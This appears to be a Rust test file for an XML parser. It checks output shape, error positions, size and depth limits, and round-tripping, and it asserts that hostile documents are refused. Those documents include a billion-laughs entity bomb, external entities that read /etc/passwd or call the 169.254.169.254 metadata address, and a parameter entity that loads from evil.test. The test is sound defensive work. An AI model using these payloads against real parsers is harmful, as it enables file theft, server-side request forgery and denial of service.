//! Documents and what is made of them; hostile ones (security N12).

#![allow(clippy::unwrap_used, reason = "tests fail by panicking")]

use a99_capabilities::{Xml, block_on, suite};
use a99_core::value::Value;
use a99_xml::{XmlCode, XmlLimits, XmlParser};
use proptest::prelude::*;

fn json(text: &str) -> String {
    let parsed = XmlParser::new().parse_document(text);
    parsed
        .unwrap_or_else(|error| panic!("{text:?}: {error}"))
        .to_json_string()
}

fn code(text: &str) -> XmlCode {
    let error = XmlParser::new().parse_document(text);
    error.err().unwrap_or_else(|| panic!("{text:?}")).code()
}

#[test]
fn the_suite_of_the_trait_holds() {
    let good = "<?xml version='1.0'?><a b='1'>t<c/></a>";
    block_on(suite::xml(&XmlParser::new(), good)).unwrap();
}

#[test]
fn documents_have_one_shape() {
    let table = [
        (
            "<a/>",
            r#"{"name":"a","attributes":{},"children":[],"text":""}"#,
        ),
        (
            "<a></a >",
            r#"{"name":"a","attributes":{},"children":[],"text":""}"#,
        ),
        (
            "\u{feff}<?xml version=\"1.0\" encoding=\"latin1\"?>\n<!-- c --><a>x</a><?p q?>\n",
            r#"{"name":"a","attributes":{},"children":["x"],"text":"x"}"#,
        ),
        (
            "<n:a xmlns:n='u' n:b=\"1\tx\r\ny&#10;&quot;\"/>",
            r#"{"name":"n:a","attributes":{"xmlns:n":"u","n:b":"1 x y\n\""},"children":[],"text":""}"#,
        ),
        (
            "<a>\n  <b>1</b>\n  <b> </b>\n</a>",
            r#"{"name":"a","attributes":{},"children":[{"name":"b","attributes":{},"children":["1"],"text":"1"},{"name":"b","attributes":{},"children":[" "],"text":" "}],"text":""}"#,
        ),
        (
            "<a>x<!-- c -->y<?p?>z<![CDATA[<b>&amp;]]>&amp;&#x41;&#66;</a>",
            r#"{"name":"a","attributes":{},"children":["xyz<b>&amp;&AB"],"text":"xyz<b>&amp;&AB"}"#,
        ),
        (
            "<a>1<b/>2<b/><![CDATA[ ]]></a>",
            r#"{"name":"a","attributes":{},"children":["1",{"name":"b","attributes":{},"children":[],"text":""},"2",{"name":"b","attributes":{},"children":[],"text":""}," "],"text":"12 "}"#,
        ),
        (
            "<a>1\r\n2\r3</a>",
            r#"{"name":"a","attributes":{},"children":["1\n2\n3"],"text":"1\n2\n3"}"#,
        ),
        (
            "<é ü='ß'>\u{1F600}</é>",
            r#"{"name":"é","attributes":{"ü":"ß"},"children":["😀"],"text":"😀"}"#,
        ),
        (
            "<__proto__ constructor='1'/>",
            r#"{"name":"__proto__","attributes":{"constructor":"1"},"children":[],"text":""}"#,
        ),
    ];
    for (text, expected) in table {
        assert_eq!(json(text), expected, "{text:?}");
    }
}

#[test]
fn n12_hostile_documents_are_refused() {
    let laughs: String = (1..10)
        .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
        .collect();
    let laughs = format!("<!DOCTYPE a [<!ENTITY l0 \"ha\">{laughs}]><a>&l9;</a>");
    let table: Vec<(String, XmlCode)> = vec![
        (laughs, XmlCode::Doctype),
        (
            "<!DOCTYPE a SYSTEM \"file:///etc/passwd\"><a/>".into(),
            XmlCode::Doctype,
        ),
        (
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"http://169.254.169.254/\">]><a>&x;</a>".into(),
            XmlCode::Doctype,
        ),
        (
            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.test/\"> %p;]><a/>".into(),
            XmlCode::Doctype,
        ),
        ("<!doctype html><a/>".into(), XmlCode::Doctype),
        ("<a>&x;</a>".into(), XmlCode::Entity),
        ("<a b='&x;'/>".into(), XmlCode::Entity),
        ("<a>&nbsp;</a>".into(), XmlCode::Entity),
        ("<a>&#0;</a>".into(), XmlCode::Syntax),
        ("<a>&#1;</a>".into(), XmlCode::Character),
        ("<a b='&#1;'/>".into(), XmlCode::Character),
        ("<a>&#xFFFF;</a>".into(), XmlCode::Character),
        ("<a>&#xD800;</a>".into(), XmlCode::Syntax),
        ("<a>&#x110000;</a>".into(), XmlCode::Syntax),
        ("<a>&#99999999999999999999;</a>".into(), XmlCode::Syntax),
        ("<a>&#-1;</a>".into(), XmlCode::Syntax),
        ("<a>&;</a>".into(), XmlCode::Entity),
        ("<a>& b</a>".into(), XmlCode::Syntax),
        ("<a>\u{0}</a>".into(), XmlCode::Character),
        ("<a>\u{FFFE}</a>".into(), XmlCode::Character),
        ("<a>]]></a>".into(), XmlCode::Syntax),
        (String::new(), XmlCode::Syntax),
        ("x".into(), XmlCode::Syntax),
        ("<a>".into(), XmlCode::Syntax),
        ("</a>".into(), XmlCode::Syntax),
        ("<a></b>".into(), XmlCode::Syntax),
        ("<a/><b/>".into(), XmlCode::Syntax),
        ("<a/>x".into(), XmlCode::Syntax),
        ("<a/>&amp;".into(), XmlCode::Syntax),
        ("<![CDATA[ ]]><a/>".into(), XmlCode::Syntax),
        ("<a b/>".into(), XmlCode::Syntax),
        ("<a b=1/>".into(), XmlCode::Syntax),
        ("<a b='1' b='2'/>".into(), XmlCode::Syntax),
        ("<a b='<'/>".into(), XmlCode::Syntax),
        ("<a b='1/>".into(), XmlCode::Syntax),
        ("<1a/>".into(), XmlCode::Syntax),
        ("< a/>".into(), XmlCode::Syntax),
        ("<a 1b='1'/>".into(), XmlCode::Syntax),
        ("<a><!-- -- --></a>".into(), XmlCode::Syntax),
        ("<a><!-- </a>".into(), XmlCode::Syntax),
        ("<a><?xml version='1.0'?></a>".into(), XmlCode::Syntax),
        ("<a><?p </a>".into(), XmlCode::Syntax),
        ("<?1 x?><a/>".into(), XmlCode::Syntax),
        (" <?xml version='1.0'?><a/>".into(), XmlCode::Syntax),
        ("<?xml version='9'?><a/>".into(), XmlCode::Syntax),
        ("<a".repeat(1000), XmlCode::Syntax),
        ("<a>".repeat(100_000), XmlCode::TooDeep),
        (
            format!("{}{}", "<a>".repeat(129), "</a>".repeat(129)),
            XmlCode::TooDeep,
        ),
        (
            format!("<a>{}</a>", "<b/>".repeat(50_001)),
            XmlCode::TooManyNodes,
        ),
        (
            format!("<a>{}</a>", "x<b/>".repeat(30_000)),
            XmlCode::TooManyNodes,
        ),
        (
            format!(
                "<a {}/>",
                (0..100_000)
                    .map(|n| format!("x{n}='' "))
                    .collect::<String>()
            ),
            XmlCode::TooManyAttributes,
        ),
        (format!("<a>{}</a>", "x".repeat(4 << 20)), XmlCode::TooLarge),
        (
            format!("<a b='{}'/>", "x".repeat(4 << 20)),
            XmlCode::TooLarge,
        ),
    ];
    for (text, expected) in table {
        let start: String = text.chars().take(80).collect();
        assert_eq!(code(&text), expected, "{start:?}");
    }
}

#[test]
fn n12_depth_within_the_limit_is_read() {
    let deep = format!("{}{}", "<a>".repeat(128), "</a>".repeat(128));
    assert!(XmlParser::new().parse_document(&deep).is_ok());
    let attributes: String = (0..256).map(|n| format!(" x{n}=''")).collect();
    assert!(
        XmlParser::new()
            .parse_document(&format!("<a{attributes}/>"))
            .is_ok()
    );
    let long = format!("<a b='{}'>{}</a>", "x".repeat(1 << 20), "y".repeat(1 << 20));
    assert!(XmlParser::new().parse_document(&long).is_ok());
}

/// A document of bytes that nobody decoded is refused, and what a declaration says of an
/// encoding does not count.
#[test]
fn n12_encodings_do_not_count() {
    let declared = "<?xml version='1.0' encoding='latin-1' standalone='yes'?><a>\u{e9}</a>";
    assert!(json(declared).contains("\u{e9}"));
    let utf16: Vec<u8> = "\u{feff}<a/>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let as_text = String::from_utf8_lossy(&utf16);
    let error = XmlParser::new().parse_document(&as_text).unwrap_err();
    assert!(error.place().is_some(), "{error}");
}

#[test]
fn n12_errors_name_line_and_column() {
    for (text, expected, place) in [
        ("<a>\n<b>\n</a>", XmlCode::Syntax, (3, 1)),
        ("<a>\n é&x;</a>", XmlCode::Entity, (2, 6)),
        ("<a>\n\n  \u{1}</a>", XmlCode::Character, (3, 3)),
        ("\n<!DOCTYPE a>\n<a/>", XmlCode::Doctype, (2, 13)),
        ("<a>\n<!-- ", XmlCode::Syntax, (2, 1)),
        ("<a\n b='1'\n b='2'/>", XmlCode::Syntax, (3, 9)),
        ("<a>\n<b>", XmlCode::Syntax, (2, 4)),
        ("<a>\n<![CDATA[", XmlCode::Syntax, (2, 1)),
        ("<a>\n<b c='", XmlCode::Syntax, (2, 1)),
    ] {
        let error = XmlParser::new().parse_document(text).unwrap_err();
        assert_eq!(
            (error.code(), error.place()),
            (expected, Some(place)),
            "{text:?}: {error}"
        );
    }
}

#[test]
fn n12_messages_are_short() {
    let long = "x".repeat(1 << 20);
    for text in [
        format!("<a></{long}>"),
        format!("<{long}></b>"),
        format!("<{long}>"),
        format!("<a>&{long};</a>"),
        format!("<a b='&{long};'/>"),
        format!("<a>&#{long};</a>"),
        format!("<a {long}/>"),
        format!("<a {long}='1' {long}='2'/>"),
        format!("<?xml version='{long}'?><a/>"),
        format!("<?{long}"),
        format!("<!{long}>"),
    ] {
        let message = XmlParser::new().parse_document(&text).unwrap_err();
        let length = message.to_string().len();
        assert!(length < 400, "{length} bytes for {:?}", &text[..20]);
    }
}

#[test]
fn errors_name_the_place() {
    let error = XmlParser::new()
        .parse_document("<a>\n  <b>é&x;</b></a>")
        .unwrap_err();
    assert_eq!(error.place().map(|(line, _)| line), Some(2));
    assert!(error.to_string().contains("no XML entity x"), "{error}");
    let small = XmlLimits {
        max_bytes: 3,
        ..XmlLimits::default()
    };
    let error = XmlParser::with_limits(small)
        .parse_document("<a/>")
        .unwrap_err();
    assert_eq!(
        error.to_string(),
        "the XML text has 4 bytes, at most 3 are read"
    );
}

#[test]
fn n12_bad_utf8_is_refused() {
    let half = a99_core::text::Text::from_wtf8(b"<a>\xED\xA0\x80</a>".to_vec());
    let error = block_on(XmlParser::new().parse(Value::String(half))).unwrap_err();
    assert!(error.to_string().contains("surrogate"), "{error}");
}

/// What is left when a tree is written again.
fn write(value: &Value, out: &mut String) {
    let Some(name) = value.get("name").and_then(Value::as_str) else {
        let text = value.as_str().unwrap();
        out.push_str(
            &text
                .replace('&', "&amp;")
                .replace('<', "&lt;")
                .replace('>', "&gt;")
                .replace('\r', "&#13;"),
        );
        return;
    };
    out.push_str(&format!("<{name}"));
    for (key, value) in value.get("attributes").unwrap().as_object().unwrap() {
        let value = value.as_str().unwrap().replace('&', "&amp;");
        let value = value.replace('<', "&lt;").replace('"', "&quot;");
        // White space that is written as itself becomes spaces (XML 1.0, 3.3.3).
        let value = value.replace('\t', "&#9;").replace('\n', "&#10;");
        let value = value.replace('\r', "&#13;");
        out.push_str(&format!(" {key}=\"{value}\""));
    }
    out.push('>');
    for child in value.get("children").unwrap().as_array().unwrap() {
        write(child, out);
    }
    out.push_str(&format!("</{name}>"));
}

proptest! {
    /// Any text is a document or an error, and a document written again is the
    /// same one.
    #[test]
    fn any_text_ends(text in "(<[a-c]( [xy]=('[^<&']{0,3}'|\"&[a-z#0-9]{0,4};\"))?/?>|</[a-c]>|[ -~]{0,3}|&[a-z]{1,4};|<!--.{0,4}-->|<\\?.{0,4}\\?>|<!\\[CDATA\\[.{0,3}\\]\\]>|<!D|\\PC){0,12}") {
        if let Ok(value) = XmlParser::new().parse_document(&text) {
            let mut again = String::new();
            write(&value, &mut again);
            let parsed = XmlParser::new().parse_document(&again);
            prop_assert_eq!(parsed, Ok(value), "{}", again);
        }
    }

    /// What has a document type is never read.
    #[test]
    fn no_document_type_passes(before in "( |<!-- x -->|<\\?p\\?>){0,3}", inner in "[ -~]{0,20}") {
        let text = format!("{before}<!DOCTYPE {inner}><a/>");
        prop_assert!(XmlParser::new().parse_document(&text).is_err());
    }
}
